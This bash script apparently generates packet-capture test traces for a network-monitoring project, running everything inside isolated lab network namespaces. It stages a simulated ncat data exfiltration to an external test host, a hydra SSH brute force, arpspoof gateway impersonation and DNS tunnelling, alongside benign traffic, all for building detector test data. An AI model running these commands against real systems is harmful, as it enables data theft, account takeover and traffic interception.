#!/usr/bin/env bash
# Records the project's own captures of real tools between network namespaces, for cases the
# shared reference captures lack (see tests/traces/README.md). Run as root:
#   tests/traces/record.sh OUT_DIR
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
out=$(mkdir -p "${1:?usage: record.sh OUT_DIR}" && cd "$1" && pwd)
LAB_PREFIX=rec$$
source "$here/../e2e/netns.sh"
w=$(mktemp -d)
trap 'lab_down; rm -rf "$w"' EXIT
lab_up
victim=10.231.1.10 gateway=10.231.1.1 web=203.0.113.20 dns=203.0.113.53

capture() {  # capture NAME SNAPLEN FILTER — starts tcpdump on the monitored host
  in_ns lan tcpdump -i eth0 -s "$2" -U -w "$out/$1.pcap" "$3" >/dev/null 2>&1 &
  cap_pid=$!
  sleep 1
}
stop_capture() { sleep 1; kill "$cap_pid"; wait "$cap_pid" 2>/dev/null || true; }

# 1. exfiltration: 6.5 MB uploaded from the monitored host to an external sink in 2–3 s.
in_ns ext sh -c "ncat -l $web 9000 >/dev/null" &
sleep 0.5
head -c 6500000 /dev/urandom >"$w/secret.bin"
capture exfil_ncat_6.5MB_upload 96 "tcp port 9000"
in_ns lan ncat -w 5 --send-only "$web" 9000 <"$w/secret.bin" || true
stop_capture

# 2. brute force: hydra with 48 tasks against sshd allowing one password per connection.
ssh-keygen -q -t ed25519 -N '' -f "$w/hk"; mkdir -p /run/sshd
in_ns lan /usr/sbin/sshd -f /dev/null -h "$w/hk" -o ListenAddress=$victim -o MaxAuthTries=1 \
  -o MaxStartups=200:30:300 -o PidFile="$w/sshd.pid" -o UsePAM=no
printf '%s\n' $(seq -f 'password%g' 1 300) >"$w/pw"
capture hydra_ssh_48tasks 128 "tcp port 22"
(cd "$w" && in_ns atk timeout 20 hydra -l tester -P "$w/pw" -t 48 -I "ssh://$victim" >/dev/null 2>&1) || true
stop_capture

# 3. ARP spoofing with a baseline: the victim first learns the real gateway, then arpspoof
#    from an on-link host claims the gateway's address.
capture arpspoof_with_baseline 128 "arp or icmp"
in_ns lan ip neigh flush all
in_ns lan ping -c 2 -W 1 "$gateway" >/dev/null
in_ns mitm timeout 5 arpspoof -i eth0 -t "$victim" "$gateway" >/dev/null 2>&1 || true
stop_capture

# 4. benign: page downloads and DNS lookups from the monitored host for 20 s.
mkdir -p "$w/www"; head -c 50000 /dev/urandom >"$w/www/page.bin"
in_ns ext python3 -m http.server 8000 --bind "$web" --directory "$w/www" >/dev/null 2>&1 &
in_ns ext dnsmasq --no-daemon --no-resolv --no-hosts --listen-address="$dns" --bind-interfaces \
  --address=/lab.example/203.0.113.20 >/dev/null 2>&1 &
sleep 1
capture benign_lab_web_dns 96 "not arp"
end=$((SECONDS + 20))
while [ $SECONDS -lt $end ]; do
  in_ns lan curl -s -o /dev/null "http://$web:8000/page.bin"
  in_ns lan dig +short +tries=1 +time=1 @"$dns" "www$((RANDOM % 9)).lab.example" >/dev/null
  sleep 0.3
done
stop_capture

# 5. DNS tunnelling: random 60-character labels under one domain, TXT queries, with dig.
capture dig_long_label_tunnel 256 "udp port 53"
for i in $(seq 1 20); do
  label=$(head -c 60 /dev/urandom | base32 | tr -d '=' | tr 'A-Z' 'a-z' | head -c 60)
  in_ns lan dig +short +tries=1 +time=1 @"$dns" "$label.t$i.tunnel.lab.example" TXT >/dev/null || true
done
stop_capture
ls -l "$out"
